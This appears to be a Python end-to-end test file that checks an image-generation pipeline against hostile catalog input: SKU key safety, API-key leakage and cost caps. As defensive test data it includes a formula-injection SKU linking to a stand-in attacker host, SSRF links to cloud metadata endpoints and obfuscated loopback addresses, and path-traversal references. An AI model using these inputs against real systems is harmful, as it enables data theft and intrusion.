"""The hostile-SKU catalog through the real flow: every product lands under a safe, unique
key inside the prefix, its metadata survives S3's headers, and the manifest keeps the
merchant's SKUs exactly as written."""
from __future__ import annotations

import io
import re
from pathlib import Path

import pandas as pd
import pytest

from bananaflow.catalog.loader import load_catalog
from bananaflow.landing.storage import decode_metadata
from tests.flow_params import flow_params

pytestmark = pytest.mark.e2e

CORPUS = Path(__file__).parent.parent / "fixtures" / "hostile" / "hostile_skus.csv"
SAFE_KEY = re.compile(r"^hostile/[A-Za-z0-9._-]+/main-[0-9a-f]{12}\.png$")


def test_hostile_skus_land_safely(prefect_api, s3_env, provider_env):
    from bananaflow_prefect.flows.catalog_flow import catalog_to_images

    skus = [row.sku for row in load_catalog(str(CORPUS)).accepted]
    summary = catalog_to_images(**flow_params(catalog=str(CORPUS), bucket="hostile", prefix="hostile", concurrency=4))
    assert summary["counts"] == {"succeeded": len(skus)}

    client = s3_env.client()
    listing = client.list_objects_v2(Bucket="hostile", Prefix="", MaxKeys=1000)["Contents"]
    images = [o["Key"] for o in listing if "/runs/" not in o["Key"]]
    assert len(images) == len(skus)
    assert all(SAFE_KEY.match(key) for key in images), images

    manifest_key = summary["manifest"]["parquet"].removeprefix("s3://hostile/")
    frame = pd.read_parquet(io.BytesIO(client.get_object(Bucket="hostile", Key=manifest_key)["Body"].read()))
    assert sorted(frame["sku"]) == sorted(skus)  # control characters, newlines, 1,000 chars: as written
    by_key = dict(zip(frame["key"], frame["sku"]))
    for key in images:
        meta = decode_metadata(client.head_object(Bucket="hostile", Key=key)["Metadata"])
        assert meta["bananaflow-sku"] == by_key[key][:64]


class _EchoHandler(__import__("http.server").server.BaseHTTPRequestHandler):
    """An upstream that echoes the request's key in its error bodies, past the first
    100 characters (where a cut-then-redact would have left half of it), as JSON and as text."""

    count = 0

    def log_message(self, *args: object) -> None:
        """Quiet."""

    def _echo(self) -> None:
        import json

        type(self).count += 1
        key = self.headers.get("x-goog-api-key") or self.path.partition("key=")[2]
        filler = "the request was rejected by the relay; for debugging, here is what it received " * 2
        if type(self).count % 2:
            body = json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                         "message": f"{filler}x-goog-api-key: {key}"}}).encode()
            kind = "application/json"
        else:
            body, kind = f"{filler[:110]}{key} {filler}".encode(), "text/plain"
        self.send_response(400)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = _echo  # noqa: N815 - http.server's names


def _everything_written(client, bucket: str, spool: Path) -> dict[str, bytes]:
    """Every object in the bucket, every spool file and Prefect's database files."""
    from prefect.settings import PREFECT_SERVER_DATABASE_CONNECTION_URL

    found: dict[str, bytes] = {}
    for page in client.get_paginator("list_objects_v2").paginate(Bucket=bucket):
        for obj in page.get("Contents", []):
            found[f"s3://{bucket}/{obj['Key']}"] = client.get_object(Bucket=bucket, Key=obj["Key"])["Body"].read()
    for path in spool.rglob("*") if spool.exists() else ():
        if path.is_file():
            found[str(path)] = path.read_bytes()
    db = Path(PREFECT_SERVER_DATABASE_CONNECTION_URL.value().split("///", 1)[1])
    for path in db.parent.glob(db.name + "*"):  # the database, its WAL and journal
        found[str(path)] = path.read_bytes()
    return found


def test_a_key_echoed_by_the_upstream_is_in_no_output(prefect_api, s3_env, provider_env, tmp_path, monkeypatch):
    import http.server
    import secrets
    import threading
    import time

    from bananaflow_prefect.flows.catalog_flow import catalog_to_images
    from tests.e2e.conftest import products, write_catalog

    key = "FAKE-ECHO-" + secrets.token_hex(16)  # random: its pieces appear nowhere by chance
    monkeypatch.setenv("GEMINI_API_KEY", key)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _EchoHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setenv("GOOGLE_GEMINI_BASE_URL", f"http://127.0.0.1:{server.server_address[1]}")
    try:
        catalog = write_catalog(tmp_path / "echo.csv", products(4, prefix="ECHO"))
        summary = catalog_to_images(**flow_params(catalog=str(catalog), bucket="echo", prefix="echo", concurrency=2))
    finally:
        server.shutdown()
        server.server_close()
    assert _EchoHandler.count >= 4 and summary["counts"].get("succeeded", 0) == 0
    time.sleep(2)  # events and logs reach the server's database
    written = _everything_written(s3_env.client(), "echo", tmp_path / "spool")
    assert any("manifest" in name and name.endswith(".csv") for name in written)
    assert any("manifest" in name and name.endswith(".parquet") for name in written)
    assert any(name.endswith(".db") for name in written)
    pieces = {key[i : i + 8].encode() for i in range(len(key) - 7)}
    leaks = [(name, piece) for name, data in written.items() for piece in pieces if piece in data]
    assert leaks == [], [(n, p, written[n][max(0, written[n].find(p) - 80): written[n].find(p) + 40]) for n, p in leaks]


class _InternalHandler(__import__("http.server").server.BaseHTTPRequestHandler):
    """An "internal service" on 127.0.0.1 that hands out a photo to anyone who asks."""

    hits: list[str] = []

    def log_message(self, *args: object) -> None:
        """Quiet."""

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        type(self).hits.append(self.path)
        body = (Path(__file__).parent.parent / "fixtures" / "photos" / "mug.png").read_bytes()
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    import csv

    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_hostile_catalog_reaches_nothing_inside_and_writes_no_formula(prefect_api, s3_env, provider_env, tmp_path):
    """Reference links to internal places fail their items with one message before any
    connection (the internal server is never asked, the model never gets its bytes); formula
    SKUs land as text in manifest.csv and rejected.csv."""
    import http.server
    import shutil
    import threading

    from bananaflow.landing.storage import ImageStore
    from bananaflow_prefect.flows.catalog_flow import catalog_to_images
    from tests.e2e.conftest import write_catalog

    internal = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _InternalHandler)
    threading.Thread(target=internal.serve_forever, daemon=True).start()
    port = internal.server_address[1]
    shop = tmp_path / "shop"
    shutil.copytree(Path(__file__).parent.parent / "fixtures" / "photos", shop / "photos")
    (tmp_path / "secret.png").write_bytes((shop / "photos" / "mug.png").read_bytes())
    links = {
        "OK-1": "photos/mug.png",
        '=HYPERLINK("http://evil.example/?x","open")': "photos/board.png",
        "LOOPBACK": f"http://127.0.0.1:{port}/photo.png",
        "DECIMAL": f"http://2130706433:{port}/photo.png",
        "METADATA": "http://0xa9fea9fe/latest/meta-data/",
        "MAPPED": "http://[::ffff:169.254.169.254]/latest/meta-data/",
        "ALIBABA": "http://100.100.100.200/latest/meta-data/",
        "UP-AND-OUT": "../secret.png",
        "ABSOLUTE": str(tmp_path / "secret.png"),
        "DEVICE": "/dev/zero",
        "OTHER-BUCKET": "s3://another-bucket/photo.png",
        "@dup": "photos/mug.png",
    }
    rows = [{"sku": sku, "title": f"Mug {i}", "image_link": link} for i, (sku, link) in enumerate(links.items())]
    rows.append({"sku": "@dup", "title": "Mug again", "image_link": "photos/mug.png"})  # rejected: duplicate
    catalog = write_catalog(shop / "catalog.csv", rows)
    (tmp_path / "main.j2").write_text("Studio photo of {{ title }} on pure white")
    (tmp_path / "job.yaml").write_text('variants:\n  - {name: main, template: main.j2, reference: true}\n')
    try:
        summary = catalog_to_images(**flow_params(catalog=str(catalog), bucket="hostile-refs", prefix="refs",
                                                  job=str(tmp_path / "job.yaml"), concurrency=4))
    finally:
        internal.shutdown()
        internal.server_close()

    assert _InternalHandler.hits == []  # refused before connecting
    assert summary["counts"] == {"succeeded": 3, "failed": 9}, summary["counts"]
    failures = {f["sku"]: f for f in summary["failures"]}
    assert set(failures) == set(links) - {"OK-1", "@dup", '=HYPERLINK("http://evil.example/?x","open")'}
    assert {f["error_class"] for f in failures.values()} == {"ReferencePhotoError"}
    texts = {f["error_message"].split(" cannot be used")[1] for f in failures.values()}
    assert len(texts) == 1, texts  # one message, whatever was behind the link
    assert len(provider_env.request_log()) == 3  # only the good photos reached the model

    store = ImageStore("hostile-refs")
    manifest = store.get_bytes(summary["manifest"]["csv"].removeprefix("s3://hostile-refs/")).decode()
    rejected = store.get_bytes(summary["rejected_uri"].removeprefix("s3://hostile-refs/")).decode()
    assert "@dup" in rejected and "=HYPERLINK" in manifest
    assert [c for c in _cells(manifest) + _cells(rejected) if c.startswith(FORMULA)] == []


def test_max_cost_holds_in_batch_mode(prefect_api, s3_env, provider_env, tmp_path):
    """Batch (and auto, which picks batch for large jobs) reserves each item's batch price
    before submitting: the cap holds, the rest is deferred and said so."""
    from bananaflow.limits.budget import batch_worst_case_cost_usd
    from bananaflow.providers.models import get_model
    from bananaflow_prefect.flows.catalog_flow import catalog_to_images
    from tests.e2e.conftest import products, write_catalog

    per_item = batch_worst_case_cost_usd(get_model("gemini-3-pro-image"), "1K")
    catalog = write_catalog(tmp_path / "batch.csv", products(10, prefix="CAP"))
    summary = catalog_to_images(**flow_params(catalog=str(catalog), bucket="hostile-cap", mode="batch",
                                              batch_max_items=4, batch_poll_max_s=0.3, max_cost_usd=per_item * 3.5))
    assert summary["counts"] == {"succeeded": 3, "deferred": 7}, summary["counts"]
    assert summary["cost_usd"] <= per_item * 3.5
    assert summary["deferred_by_budget"] == 7 and not summary["ok"]
    # submitted items all come back (the simulator answers every line): 3 made = 3 submitted
    assert 1 <= provider_env.batch_stats()["batches_created"] <= 3
